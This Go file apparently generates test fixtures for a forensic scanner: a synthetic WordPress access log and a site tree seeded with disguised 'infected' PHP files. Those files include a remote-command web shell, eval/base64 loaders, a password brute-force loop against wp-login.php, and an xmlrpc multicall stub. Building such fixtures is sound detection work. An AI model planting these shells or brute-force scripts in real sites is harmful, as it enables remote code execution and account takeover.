package main

import (
	"bufio"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"time"
)

// Words of the generated access log: a WordPress site's usual traffic.
var (
	methods  = []string{"GET", "GET", "GET", "GET", "GET", "GET", "POST", "HEAD"}
	paths    = []string{"/", "/index.php", "/wp-login.php", "/wp-admin/admin-ajax.php", "/feed/", "/wp-json/wp/v2/posts", "/robots.txt", "/favicon.ico", "/sitemap.xml", "/xmlrpc.php"}
	prefixes = []string{"/blog/", "/product/", "/category/news/", "/wp-content/uploads/2025/", "/wp-content/themes/twentytwentyfour/assets/", "/wp-includes/js/", "/tag/"}
	suffixes = []string{"/", ".jpg", ".css?ver=6.5.2", ".js?ver=6.5.2", ".png", "/?replytocom=", "/amp/"}
	statuses = []string{"200", "200", "200", "200", "200", "304", "301", "302", "404", "403", "500"}
	referers = []string{"-", "-", "https://www.google.com/", "https://www.example.com/", "https://www.example.com/blog/", "https://duckduckgo.com/", "https://www.bing.com/search?q=shop"}
	agents   = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
		"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
		"WordPress/6.5.2; https://www.example.com",
		"curl/8.5.0",
	}
)

// special is a line the scan must find, at a fraction of the file.
type special struct {
	at     float64
	target bool // contains the target; otherwise a request to the flagged script
}

// genLog writes size bytes of combined-format log spanning the day of
// start, with nTarget lines that contain target and as many requests to
// the flagged script; half of each lie in [from, to]. It returns the
// counts a correct scan must report.
func genLog(path string, size int64, start, from, to time.Time, target string, nSpecial int) (counts, error) {
	f, err := os.Create(path)
	if err != nil {
		return counts{}, err
	}
	defer f.Close()
	w := bufio.NewWriterSize(f, 1<<20)
	r := rand.New(rand.NewPCG(1, 2))
	day := 24 * time.Hour
	var specials []special
	frac := func(t time.Time) float64 { return float64(t.Sub(start)) / float64(day) }
	for i := 0; i < nSpecial; i++ {
		for _, isTarget := range []bool{true, false} {
			at := r.Float64()
			if i%2 == 0 { // half in the window
				at = frac(from) + r.Float64()*(frac(to)-frac(from))
			}
			specials = append(specials, special{at, isTarget})
		}
	}
	slices.SortFunc(specials, func(a, b special) int {
		if a.at < b.at {
			return -1
		}
		return 1
	})
	clients := make([]string, 5000)
	for i := range clients {
		// 192.0.2.0/24, 198.51.100.0/24 and 10/8-like spreads; never the target.
		clients[i] = fmt.Sprintf("%d.%d.%d.%d", 11+r.IntN(180), r.IntN(256), r.IntN(256), 1+r.IntN(254))
	}
	var c counts
	var written int64
	line := make([]byte, 0, 1024)
	for written < size {
		at := float64(written) / float64(size)
		t := start.Add(time.Duration(at * float64(day))).Truncate(time.Second)
		line = line[:0]
		if len(specials) > 0 && at >= specials[0].at {
			s := specials[0]
			specials = specials[1:]
			in := !t.Before(from) && !t.After(to)
			if s.target {
				line = appendLine(line, target, t, "POST", "/wp-login.php", "200", "https://"+target+"/wp-login.php", "python-requests/2.31.0", 1234)
				c.target++
				if in {
					c.targetIn++
				}
			} else {
				line = appendLine(line, "198.51.100.7", t, "POST", "/wp-content/uploads/2026/04/cache.php", "200", "-", agents[0], 17)
				c.script++
				if in {
					c.scriptIn++
				}
			}
		} else {
			p := paths[r.IntN(len(paths))]
			if r.IntN(3) > 0 {
				p = prefixes[r.IntN(len(prefixes))] + "item-" + strconv.Itoa(r.IntN(100000)) + suffixes[r.IntN(len(suffixes))]
			}
			// Near misses: other addresses of the target's /24 as clients.
			client := clients[r.IntN(len(clients))]
			if r.IntN(5000) == 0 {
				client = "203.0.113." + strconv.Itoa(1+r.IntN(43))
			}
			line = appendLine(line, client, t, methods[r.IntN(len(methods))], p, statuses[r.IntN(len(statuses))],
				referers[r.IntN(len(referers))], agents[r.IntN(len(agents))], r.IntN(200000))
		}
		n, err := w.Write(line)
		if err != nil {
			return c, fmt.Errorf("write %s: %w", path, err)
		}
		written += int64(n)
	}
	c.lines = -1
	if err := w.Flush(); err != nil {
		return c, fmt.Errorf("write %s: %w", path, err)
	}
	return c, f.Close()
}

// counts are what the generator put in a log.
type counts struct {
	lines                              int
	target, targetIn, script, scriptIn int
}

// appendLine appends one combined-format line.
func appendLine(b []byte, client string, t time.Time, method, path, status, referer, agent string, size int) []byte {
	b = append(b, client...)
	b = append(b, " - - ["...)
	b = t.AppendFormat(b, "02/Jan/2006:15:04:05 -0700")
	b = append(b, "] \""...)
	b = append(b, method...)
	b = append(b, ' ')
	b = append(b, path...)
	b = append(b, " HTTP/1.1\" "...)
	b = append(b, status...)
	b = append(b, ' ')
	b = strconv.AppendInt(b, int64(size), 10)
	b = append(b, " \""...)
	b = append(b, referer...)
	b = append(b, "\" \""...)
	b = append(b, agent...)
	b = append(b, "\"\n"...)
	return b
}

// genRoot writes a WordPress-like tree of n files, mostly small clean PHP,
// with a few infected scripts, and returns how many are infected.
func genRoot(root string, n int) (int, error) {
	r := rand.New(rand.NewPCG(3, 4))
	infected := map[int]string{
		n / 7:     "wp-content/uploads/2026/04/cache.php",
		n / 3:     "wp-content/plugins/plugin-77/includes/class-loader.php",
		n / 2:     "wp-content/themes/theme-3/404.php",
		n * 2 / 3: "wp-includes/images/smilies/icon.ico",
		n - 10:    "wp-content/cache/tmp/x.php",
	}
	bodies := []string{
		"<?php\n$passwords = file('/tmp/p.txt');\n$mh = curl_multi_init();\nforeach ($passwords as $p) {\n\t$ch = curl_init('https://203.0.113.44/wp-login.php');\n\tcurl_setopt($ch, CURLOPT_POSTFIELDS, 'log=admin&pwd=' . $p);\n\tcurl_multi_add_handle($mh, $ch);\n}\ndo { curl_multi_exec($mh, $running); } while ($running > 0);\n",
		"<?php @eval(base64_decode('ZWNobyAnaGVsbG8nOw=='));\n",
		"<?php if (isset($_POST['c'])) { @assert($_POST['c']); }\n",
		"<?php @eval(gzinflate(base64_decode('80jNyclXCM8vykkBAA==')));\n",
		"<?php\n$u = 'https://victim.example/xmlrpc.php';\n$x = '<methodCall><methodName>system.multicall</methodName></methodCall>';\n",
	}
	made := 0
	dirs := map[string]bool{}
	for i := 0; i < n; i++ {
		var rel, body string
		if p, ok := infected[i]; ok {
			rel, body = p, bodies[made%len(bodies)]
			made++
		} else {
			rel, body = cleanFile(r, i)
		}
		p := filepath.Join(root, rel)
		if d := filepath.Dir(p); !dirs[d] { // MkdirAll per file would cost a stat per level
			if err := os.MkdirAll(d, 0o755); err != nil {
				return made, err
			}
			dirs[d] = true
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			return made, err
		}
	}
	return made, nil
}

// cleanFile returns the path and content of the i-th clean file.
func cleanFile(r *rand.Rand, i int) (string, string) {
	dir := fmt.Sprintf("wp-content/plugins/plugin-%d/includes/sub-%d", i%400, (i/400)%25)
	switch i % 10 {
	case 7:
		return fmt.Sprintf("%s/script-%d.js", dir, i), fmt.Sprintf("(function(){var n=%d;for(var i=0;i<n;i++){console.log('item '+i);}})();\n", r.IntN(100))
	case 8:
		return fmt.Sprintf("%s/style-%d.css", dir, i), ".entry-title{font-size:2rem;margin:0 0 1rem}\n"
	case 9:
		return fmt.Sprintf("%s/readme-%d.txt", dir, i), "=== Plugin ===\nStable tag: 1.0\n"
	}
	var b []byte
	b = fmt.Appendf(b, "<?php\n/**\n * Class file %d.\n */\nclass Plugin_Class_%d {\n", i, i)
	for m := 0; m < 3+r.IntN(20); m++ {
		b = fmt.Appendf(b, "\tpublic function method_%d($args = array()) {\n\t\t$defaults = array('id' => %d, 'name' => 'item');\n\t\t$args = wp_parse_args($args, $defaults);\n\t\tforeach ($args as $k => $v) {\n\t\t\t$this->data[$k] = sanitize_text_field($v);\n\t\t}\n\t\treturn apply_filters('plugin_method_%d', $args);\n\t}\n", m, r.IntN(1000), m)
	}
	b = append(b, "}\n"...)
	return fmt.Sprintf("%s/class-%d.php", dir, i), string(b)
}
